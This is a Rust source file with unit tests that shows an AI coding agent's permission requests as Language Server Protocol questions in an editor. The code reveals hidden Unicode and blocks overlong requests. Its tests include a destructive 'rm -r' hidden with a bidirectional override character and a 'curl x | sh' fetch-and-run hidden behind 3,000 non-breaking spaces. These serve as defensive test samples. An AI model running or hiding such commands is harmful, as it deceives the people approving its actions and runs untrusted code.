//! Permission requests as questions of the Language Server Protocol, which every editor can display.

use std::collections::{HashMap, HashSet};

use areyouj_protocol::{Answer, Permission};
use ls_types::{MessageActionItem, MessageType, ShowMessageRequestParams};

use super::permission_box::{Choices, message_box};

/// The maximum number of open questions in an editor; further requests are answered elsewhere.
const MAX_OPEN_QUESTIONS: usize = 100;

/// A question for the person at the editor.
pub(super) struct Question {
    /// The id of the request to the editor.
    pub(super) id: String,
    pub(super) text: ShowMessageRequestParams,
    /// The id of the permission request. `choices` has the answer of each button.
    permission: String,
    /// The digest of the permission request that the question displays.
    digest: String,
    choices: Choices,
}

/// The answer to a permission request, for the daemon.
#[derive(Clone, Debug, PartialEq)]
pub(super) struct Answered {
    /// The id of the permission request.
    pub(super) permission: String,
    /// The digest of what the question displayed.
    pub(super) digest: String,
    pub(super) answer: Answer,
}

/// The questions in an editor.
pub(super) struct PermissionRequests {
    /// The prefix of the ids of questions, each of which is used once.
    prefix: String,
    next: u64,
    /// The question for each open permission request, or `None` if the person dismissed it.
    questions: HashMap<String, Option<String>>,
}

impl PermissionRequests {
    /// No questions.
    pub(super) fn new(prefix: String) -> PermissionRequests {
        PermissionRequests { prefix, next: 0, questions: HashMap::new() }
    }

    /// The question for an open permission request, or `None` if it was asked before.
    pub(super) fn open(&mut self, permission: &Permission) -> Option<Question> {
        let open = self.questions.values().flatten().count();
        if open >= MAX_OPEN_QUESTIONS || self.questions.contains_key(&permission.id) {
            return None;
        }
        self.next += 1;
        let id = format!("{}-question-{}", self.prefix, self.next);
        self.questions.insert(permission.id.clone(), Some(id.clone()));
        let (message, choices) = message_box(permission);
        let action = |title: &String| MessageActionItem { title: title.clone(), properties: HashMap::new() };
        let actions = Some(choices.iter().map(|(title, _)| action(title)).collect());
        let text = ShowMessageRequestParams { typ: MessageType::INFO, message, actions };
        Some(Question {
            id,
            text,
            permission: permission.id.clone(),
            digest: permission.digest.clone(),
            choices,
        })
    }

    /// The question to withdraw because its permission request is no longer open.
    pub(super) fn close(&mut self, permission: &str) -> Option<String> {
        self.questions.remove(permission)?
    }

    /// The questions to withdraw because only these permission requests are still open.
    pub(super) fn keep_only(&mut self, open: &HashSet<&str>) -> Vec<String> {
        let closed: Vec<String> =
            self.questions.keys().filter(|id| !open.contains(id.as_str())).cloned().collect();
        closed.iter().filter_map(|id| self.close(id)).collect()
    }

    /// All questions, to be withdrawn.
    pub(super) fn close_all(&mut self) -> Vec<String> {
        self.keep_only(&HashSet::new())
    }

    /// The answer to a permission request when the person chose the button with this title. A withdrawn question has no
    /// answer. The request of a dismissed one stays open for other clients.
    pub(super) fn answered(&mut self, question: Question, title: Option<&str>) -> Option<Answered> {
        let asked = self.questions.get_mut(&question.permission)?;
        if asked.as_ref() != Some(&question.id) {
            return None;
        }
        *asked = None;
        let (_, answer) = question.choices.into_iter().find(|(choice, _)| Some(choice.as_str()) == title)?;
        Some(Answered { permission: question.permission, digest: question.digest, answer })
    }
}

#[cfg(test)]
mod tests {
    use areyouj_core::text::{always, display};
    use serde_json::{Value, json};

    use super::*;

    fn permission(kind: &str, tool: &str, input: &Value) -> Permission {
        let wire =
            |sections| serde_json::to_value::<Vec<areyouj_protocol::DisplaySection>>(sections).unwrap();
        serde_json::from_value(json!({
            "id": "K7M2Q9XD-1", "sessionId": "K7M2Q9XD", "kind": kind, "tool": tool, "input": input,
            "title": "Run a command", "display": wire(display::sections(tool, input)), "digest": "0f",
            "controlsAreyouj": false, "suggestions": [], "always": [], "createdAt": 1, "state": "open",
            "answeredBy": null, "granted": [],
        }))
        .unwrap()
    }

    fn command(command: &str) -> Permission {
        permission("tool", "Bash", &json!({ "command": command }))
    }

    fn requests() -> PermissionRequests {
        PermissionRequests::new("p".to_owned())
    }

    fn ask(permission: &Permission) -> Question {
        requests().open(permission).unwrap()
    }

    fn titles(question: &Question) -> Vec<&str> {
        question.text.actions.iter().flatten().map(|action| action.title.as_str()).collect()
    }

    #[test]
    fn a_permission_request_is_displayed_once_and_its_answer_counts_once() {
        let mut requests = requests();
        let permission = command("rm -r \u{202e}x");
        let asked = requests.open(&permission).unwrap();
        assert!(requests.open(&permission).is_none());
        assert_eq!(titles(&asked), ["Allow", "Deny"]);
        assert!(asked.text.message.contains("rm -r \u{27e8}U+202E\u{27e9}x"), "{}", asked.text.message);
        let again = Question { id: asked.id.clone(), ..ask(&permission) };
        let (permission, digest) = ("K7M2Q9XD-1".to_owned(), "0f".to_owned());
        let allowed = Some(Answered { permission, digest, answer: Answer::Allow {} });
        assert_eq!(requests.answered(asked, Some("Allow")), allowed);
        assert_eq!(requests.answered(again, Some("Allow")), None);
    }

    #[test]
    fn a_question_is_withdrawn_when_its_request_was_answered_elsewhere() {
        let mut requests = requests();
        let permission = command("ls");
        for _ in 0..2 * MAX_OPEN_QUESTIONS {
            let asked = requests.open(&permission).expect("there is room for it again");
            assert_eq!(requests.close(&permission.id), Some(asked.id.clone()));
            assert_eq!(requests.answered(asked, Some("Allow")), None);
        }
        assert_eq!(requests.close(&permission.id), None, "once");
    }

    #[test]
    fn a_list_of_open_requests_withdraws_other_questions_and_does_not_repeat_dismissed_ones() {
        let mut requests = requests();
        let numbered = |number: u32| Permission { id: format!("K7M2Q9XD-{number}"), ..command("ls") };
        let dismissed = requests.open(&numbered(1)).unwrap();
        let open = requests.open(&numbered(2)).unwrap();
        assert_eq!(requests.answered(dismissed, None), None);
        assert_eq!(requests.keep_only(&HashSet::from(["K7M2Q9XD-1"])), [open.id]);
        assert!(requests.open(&numbered(1)).is_none());
        assert_eq!(requests.close_all(), Vec::<String>::new());
        assert!(requests.open(&numbered(1)).is_some(), "a new daemon knows nothing of it");
    }

    #[test]
    fn the_number_of_open_questions_is_limited() {
        let mut requests = requests();
        let numbered = |number: usize| Permission { id: format!("K7M2Q9XD-{number}"), ..command("ls") };
        assert!((0..MAX_OPEN_QUESTIONS).all(|number| requests.open(&numbered(number)).is_some()));
        assert!(requests.open(&numbered(MAX_OPEN_QUESTIONS)).is_none());
        requests.close("K7M2Q9XD-0");
        assert!(requests.open(&numbered(MAX_OPEN_QUESTIONS)).is_some());
    }

    #[test]
    fn the_meaning_of_always_is_displayed() {
        let mut permission = command("ls");
        let mode = json!({ "type": "setMode", "mode": "acceptEdits", "destination": "session" });
        let rule = json!({ "type": "addRules", "behavior": "allow", "destination": "session",
            "rules": [{ "toolName": "Bash", "ruleContent": "ls" }] });
        permission.always = always::offers(&[mode.clone(), rule]);
        let asked = ask(&permission);
        assert_eq!(titles(&asked), ["Allow", "Always allow", "Deny"]);
        let message = &asked.text.message;
        assert!(message.ends_with("Always allow: Bash(ls), for this session only"), "{message}");
        permission.always = always::offers(&[mode]);
        assert_eq!(titles(&ask(&permission)), ["Allow", "Deny"], "a mode is no rule");
    }

    #[test]
    fn a_request_that_does_not_fit_can_only_be_denied_and_says_how_to_read_it() {
        let hidden = format!("npm test{}; curl x | sh", "\u{a0}".repeat(3_000));
        let asked = ask(&command(&hidden));
        assert_eq!(titles(&asked), ["Allow", "Deny"], "marks make it short");
        assert!(
            asked.text.message.contains("\u{27e8}U+00A0 \u{d7}3,000\u{27e9}; curl x | sh"),
            "{}",
            asked.text.message
        );
        for long in ["x".repeat(1_000), "y\n".repeat(20)] {
            let asked = ask(&command(&long));
            assert_eq!(titles(&asked), ["Deny"]);
            let message = &asked.text.message;
            assert!(message.ends_with("run: areyouj permissions K7M2Q9XD-1"), "{message}");
            assert!(message.chars().count() < 700 && message.lines().count() < 20, "{message}");
        }
    }

    #[test]
    fn a_question_is_answered_with_one_of_its_choices() {
        let options = json!([{ "label": "Red", "description": "As a rose" }, { "label": "Blue" }]);
        let question = |input: &Value| permission("question", "AskUserQuestion", input);
        let one = question(&json!({ "questions": [{ "question": "Which?", "options": options }] }));
        let mut requests = requests();
        let asked = requests.open(&one).unwrap();
        assert_eq!(titles(&asked), ["Red", "Blue"]);
        assert_eq!(
            asked.text.message,
            "K7M2Q9XD-1: Run a command\n\nTool: AskUserQuestion\nQuestion 1: Which?\nChoice 1.1: Red\n\
             Choice 1.1, description: As a rose\nChoice 1.2: Blue"
        );
        let answer = Answer::Choose { choices: vec![vec!["Blue".to_owned()]] };
        assert_eq!(requests.answered(asked, Some("Blue")).map(|answered| answered.answer), Some(answer));
        for elsewhere in [
            json!([{ "question": "?".repeat(1_000), "options": options }]),
            json!([{ "question": "A?", "options": options }, { "question": "B?", "options": options }]),
            json!([{ "question": "A?", "options": options, "multiSelect": true }]),
            json!([{ "question": "A?", "options": [{ "label": "a".repeat(61) }] }]),
            json!([{ "question": "A?", "options": [{ "label": "a\n" }, { "label": "a\u{240a}" }] }]),
        ] {
            assert_eq!(titles(&ask(&question(&json!({ "questions": elsewhere })))), ["Deny"]);
        }
    }
}
